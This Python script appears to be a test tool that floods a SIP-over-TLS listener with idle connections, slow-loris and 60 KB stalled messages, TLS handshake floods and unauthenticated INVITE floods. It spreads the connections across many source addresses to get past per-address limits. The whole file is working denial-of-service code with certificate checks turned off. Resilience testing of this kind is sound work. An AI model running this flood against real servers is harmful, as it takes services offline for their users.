#!/usr/bin/env python3
"""conn-flood.py - connections that tie up a TLS listener (attack tests).

    conn-flood.py HOST PORT PREFIX IDLE SLOW FAT SECONDS [PER-ADDRESS [HS [INV]]]

Opens, from source addresses PREFIX.X.Y (PER-ADDRESS connections an
address, default 20, so a per-address limit alone does not stop them), and
reopens whenever the server closes them, for SECONDS:
  IDLE  plain TCP connections that never start a TLS handshake;
  SLOW  TLS connections that send one whole request (so they count as
        useful), then trickle one byte a second of a message that would be
        65 KB (a slow-loris);
  FAT   the same, but 60 KB of the message at once, then stall;
  HS    clients that do full TLS handshakes, closing each at once and
        starting the next (a handshake flood);
  INV   TLS connections that send unauthenticated INVITEs as fast as the
        server takes them, reading and discarding the answers.
Prints "ready" once the first round is open, and at the end one line of
counts: "opened N closed N failed N" per kind (also when stopped early by
SIGTERM or SIGINT).
"""
import asyncio
import os
import signal
import ssl
import sys
import time

HOST, PORT, PREFIX = sys.argv[1], int(sys.argv[2]), sys.argv[3]
IDLE, SLOW, FAT, SECS = (int(a) for a in sys.argv[4:8])
PER = int(sys.argv[8]) if len(sys.argv) > 8 else 20
HS = int(sys.argv[9]) if len(sys.argv) > 9 else 0
INV = int(sys.argv[10]) if len(sys.argv) > 10 else 0
CTX = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
CTX.check_hostname = False
CTX.verify_mode = ssl.CERT_NONE
HEAD = b"OPTIONS sip:gw.test SIP/2.0\r\nX-Pad: "
WHOLE = (b"OPTIONS sip:gw.test SIP/2.0\r\nVia: SIP/2.0/TLS 192.0.2.1:5061;"
         b"branch=z9hG4bKflood\r\nMax-Forwards: 70\r\nFrom: "
         b"<sip:x@gw.test>;tag=f\r\nTo: <sip:gw.test>\r\nCall-ID: flood\r\n"
         b"CSeq: 1 OPTIONS\r\nContent-Length: 0\r\n\r\n")
STATS = {k: {"opened": 0, "closed": 0, "failed": 0}
         for k in ("idle", "slow", "fat", "hs", "inv")}
STATS["inv"]["sent"] = 0


def invite(i, n):
    return ("INVITE sip:bob@gw.test SIP/2.0\r\nVia: SIP/2.0/TLS 192.0.2.1:5061;"
            "branch=z9hG4bKinv%d.%d\r\nMax-Forwards: 70\r\nFrom: "
            "<sip:x@gw.test>;tag=i%d\r\nTo: <sip:bob@gw.test>\r\n"
            "Call-ID: inv-%d-%d\r\nCSeq: 1 INVITE\r\n"
            "Contact: <sip:x@192.0.2.1:5061;transport=tls>\r\n"
            "Content-Length: 0\r\n\r\n" % (i, n, i, i, n)).encode()


def source(i):
    a = i // PER
    return "%s.%d.%d" % (PREFIX, a // 250, a % 250 + 1)


async def drain(r):
    """Read and discard until the server closes."""
    while await r.read(65536):
        pass


async def one(kind, i, end):
    st = STATS[kind]
    while time.monotonic() < end:
        left = end - time.monotonic()
        try:
            r, w = await asyncio.wait_for(asyncio.open_connection(
                HOST, PORT, local_addr=(source(i), 0),
                ssl=None if kind == "idle" else CTX,
                server_hostname=None if kind == "idle" else ""),
                min(left, 10))
        except (OSError, asyncio.TimeoutError, ssl.SSLError):
            st["failed"] += 1
            await asyncio.sleep(0.5)
            continue
        st["opened"] += 1
        if kind == "hs":
            w.close()
            st["closed"] += 1
            continue
        eof = asyncio.ensure_future(drain(r))
        try:
            if kind == "fat":
                w.write(WHOLE + HEAD + b"a" * 60000)
            elif kind == "slow":
                w.write(WHOLE + HEAD)
            n = 0
            while kind == "inv" and not eof.done() and \
                    time.monotonic() < end:
                w.write(b"".join(invite(i, n + k) for k in range(16)))
                n += 16
                STATS["inv"]["sent"] += 16
                await w.drain()
            while not eof.done() and time.monotonic() < end:
                await asyncio.wait([eof], timeout=1)
                if kind == "slow" and not eof.done():
                    w.write(b"a")
            if eof.done():
                st["closed"] += 1
        except (OSError, ssl.SSLError):
            st["closed"] += 1
        eof.cancel()
        w.close()
        await asyncio.sleep(0.2)


async def main():
    end = time.monotonic() + SECS
    loop = asyncio.get_running_loop()
    for sig in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(sig, report_and_exit)
    tasks = []
    n = 0
    for kind, count in (("idle", IDLE), ("slow", SLOW), ("fat", FAT),
                        ("hs", HS), ("inv", INV)):
        for _ in range(count):
            tasks.append(asyncio.ensure_future(one(kind, n, end)))
            n += 1
            if n % 200 == 0:
                await asyncio.sleep(0.05)
    print("ready", flush=True)
    await asyncio.gather(*tasks, return_exceptions=True)
    report()


def report():
    for kind, st in STATS.items():
        print(kind, " ".join("%s %d" % kv for kv in st.items()), flush=True)


def report_and_exit():
    """Stopped early: the counts now, then out, connections and all."""
    report()
    os._exit(0)


asyncio.run(main())
